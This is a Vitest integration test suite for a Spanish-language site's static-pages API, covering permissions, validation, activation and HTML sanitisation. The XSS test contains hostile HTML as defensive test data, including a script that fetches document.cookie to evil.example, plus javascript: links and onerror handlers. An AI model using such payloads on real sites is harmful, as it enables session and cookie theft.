import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { pageActivationToggled, type Page } from '@donaciones/contracts'
import { isEvent } from '@donaciones/kit'
import { leakedSecrets } from './support/fixtures.ts'
import { startConfiguredSite, type ConfiguredSite } from './support/configured.ts'

interface ErrorBody {
  message: string
  description: string
  errors?: { path: string; message: string }[]
}

const update = { cause: 'Actualización', description: 'Corrección del texto' }

describe('pages: GET /api/pages/, GET /api/pages/{id}, PUT /api/pages/{id}, GET /api/public/pages/{name}', () => {
  let site: ConfiguredSite
  let pages: Page[]
  let about: Page
  let tokens: Record<'admin' | 'restrictedNone' | 'restrictedRead' | 'restrictedUpdate' | 'user', string>

  beforeAll(async () => {
    site = await startConfiguredSite()
    const identity = site.harness.identity
    tokens = {
      admin: site.adminToken,
      restrictedNone: (await identity.tokenFor(1)).token,
      restrictedRead: (await identity.tokenFor(1, { read: true })).token,
      restrictedUpdate: (await identity.tokenFor(1, { update: true })).token,
      user: (await identity.tokenFor(2)).token,
    }
  })
  afterAll(() => site.harness.stop())

  it('lists the three static pages', async () => {
    const response = await site.api<Page[]>('/api/pages/', { token: tokens.admin })
    expect(response.status).toBe(200)
    pages = response.body
    expect(pages.map((page) => [page.name, page.title, page.active])).toEqual([
      ['about-us', 'Nosotros', true],
      ['notice-of-privacy', 'Aviso de privacidad', true],
      ['terms-and-conditions', 'Términos y condiciones', true],
    ])
    for (const page of pages) expect(page).toEqual({ _id: expect.any(String), name: page.name, title: page.title, description: expect.any(String), active: true, createdAt: expect.any(String), updatedAt: expect.any(String) })
    about = pages[0]!
    const one = await site.api<Page>(`/api/pages/${about._id}`, { token: tokens.admin })
    expect(one.status).toBe(200)
    expect(one.body).toEqual(about)
  })

  it('enforces the permission matrix on every route', async () => {
    const matrix: [keyof typeof tokens | 'visitor', { read: number; update: number }][] = [
      ['visitor', { read: 401, update: 401 }],
      ['user', { read: 403, update: 403 }],
      ['restrictedNone', { read: 403, update: 403 }],
      ['restrictedRead', { read: 200, update: 403 }],
      ['restrictedUpdate', { read: 200, update: 200 }],
      ['admin', { read: 200, update: 200 }],
    ]
    for (const [who, expected] of matrix) {
      const token = who === 'visitor' ? undefined : tokens[who]
      const auth = token ? { token } : {}
      expect({ who, status: (await site.api('/api/pages', auth)).status }).toEqual({ who, status: expected.read })
      expect({ who, status: (await site.api(`/api/pages/${about._id}`, auth)).status }).toEqual({ who, status: expected.read })
      const put = await site.api(`/api/pages/${about._id}`, { method: 'PUT', json: { payload: { description: `<p>Texto de ${who}</p>` }, historical: update }, ...auth })
      expect({ who, status: put.status }).toEqual({ who, status: expected.update })
    }
  })

  it('stores hostile HTML sanitised and reads it back clean (XSS)', async () => {
    const hostile =
      '<h2>Quiénes somos</h2><p onmouseover="steal()">Texto <a href="javascript:alert(document.cookie)">clic</a></p>' +
      '<script>fetch("https://evil.example/?c="+document.cookie)</script><img src=x onerror="alert(1)">' +
      '<iframe src="https://evil.example"></iframe><img src="/api/files/abc/raw" alt="foto"><a href="https://ayuda.mx" target="_blank">sitio</a>'
    const response = await site.api<Page>(`/api/pages/${about._id}`, { method: 'PUT', token: tokens.admin, json: { payload: { description: hostile }, historical: update } })
    expect(response.status).toBe(200)
    const expected =
      '<h2>Quiénes somos</h2><p>Texto <a>clic</a></p><img src="/api/files/abc/raw" alt="foto" /><a href="https://ayuda.mx" target="_blank" rel="noopener noreferrer">sitio</a>'
    expect(response.body.description).toBe(expected)
    for (const read of [
      (await site.api<Page>(`/api/pages/${about._id}`, { token: tokens.admin })).body.description,
      (await site.api<{ description: string }>('/api/public/pages/about-us')).body.description,
    ]) {
      expect(read).toBe(expected)
      expect(read).not.toMatch(/script|onerror|onmouseover|javascript:|iframe/i)
    }
    const event = (await site.harness.events()).filter((candidate) => candidate.type === 'PageUpdated').at(-1)!
    expect(event.data).toEqual({ pageId: about._id, description: expected })
    expect(event.metadata).toMatchObject({ actor: site.adminId, historical: update })
  })

  it('keeps the title (not editable) and refuses an empty description', async () => {
    const response = await site.api<Page>(`/api/pages/${about._id}`, { method: 'PUT', token: tokens.admin, json: { payload: { description: '<p>Nuevo</p>', title: 'Hackeado' }, historical: update } })
    expect(response.status).toBe(200)
    expect(response.body.title).toBe('Nosotros')
    for (const description of ['', '<script>alert(1)</script>', '<p> </p>']) {
      const empty = await site.api<ErrorBody>(`/api/pages/${about._id}`, { method: 'PUT', token: tokens.admin, json: { payload: { description }, historical: update } })
      expect(empty.status).toBe(422)
      expect(empty.body.errors).toEqual([{ path: 'payload.description', message: 'Campo requerido' }])
    }
    const noJustification = await site.api<ErrorBody>(`/api/pages/${about._id}`, { method: 'PUT', token: tokens.admin, json: { payload: { description: '<p>x</p>' }, historical: { cause: 'Actualización', description: ' ' } } })
    expect(noJustification.status).toBe(422)
    expect(noJustification.body.errors).toEqual([{ path: 'historical.description', message: 'Campo requerido' }])
  })

  it('toggles activation with the matching cause; an inactive page is 404 in public', async () => {
    const terms = pages.find((page) => page.name === 'terms-and-conditions')!
    const wrongCause = await site.api<ErrorBody>(`/api/pages/${terms._id}`, { method: 'PUT', token: tokens.restrictedUpdate, json: { payload: { active: false }, historical: { cause: 'Activación', description: 'x' } } })
    expect(wrongCause.status).toBe(422)
    expect(wrongCause.body.errors).toEqual([{ path: 'historical.cause', message: 'Opción inválida' }])

    const off = await site.api<Page>(`/api/pages/${terms._id}`, { method: 'PUT', token: tokens.restrictedUpdate, json: { payload: { active: false }, historical: { cause: 'Desactivación', description: 'Se revisa el texto' } } })
    expect(off.status).toBe(200)
    expect(off.body.active).toBe(false)
    const hidden = await site.api<ErrorBody>('/api/public/pages/terms-and-conditions')
    expect(hidden.status).toBe(404)
    expect(hidden.body).toEqual({ message: 'Página no encontrada', description: 'La página solicitada no existe o no está disponible' })
    expect(((await site.api<{ pages: { terms: string } }>('/api/init')).body.pages.terms)).toBe('')

    const on = await site.api<Page>(`/api/pages/${terms._id}`, { method: 'PUT', token: tokens.admin, json: { payload: { active: true }, historical: { cause: 'Activación', description: 'Texto revisado' } } })
    expect(on.body.active).toBe(true)
    expect((await site.api('/api/public/pages/terms-and-conditions')).status).toBe(200)
    const toggles = (await site.harness.events()).filter((event) => isEvent(pageActivationToggled, event))
    expect(toggles.map((event) => [event.data.active, event.metadata.historical?.cause])).toEqual([
      [false, 'Desactivación'],
      [true, 'Activación'],
    ])
  })

  it('answers 404 in Spanish for unknown pages', async () => {
    const unknown = await site.api<ErrorBody>('/api/pages/no-existe', { token: tokens.admin })
    expect(unknown.status).toBe(404)
    expect(unknown.body).toEqual({ message: 'Página no encontrada', description: 'La página solicitada no existe' })
    expect((await site.api('/api/pages/no-existe', { method: 'PUT', token: tokens.admin, json: { payload: { description: '<p>x</p>' }, historical: update } })).status).toBe(404)
    const publicUnknown = await site.api<ErrorBody>('/api/public/pages/contacto')
    expect(publicUnknown.status).toBe(404)
    expect(publicUnknown.body.message).toBe('Página no encontrada')
  })

  it('never returned a secret', () => {
    expect(leakedSecrets(site.seen)).toEqual([])
  })
})

describe('public pages before setup', () => {
  it('are 404', async () => {
    const { startContentHarness } = await import('./support/harness.ts')
    const harness = await startContentHarness()
    try {
      const response = await fetch(`${harness.url}/api/public/pages/about-us`)
      expect(response.status).toBe(404)
    } finally {
      await harness.stop()
    }
  })
})
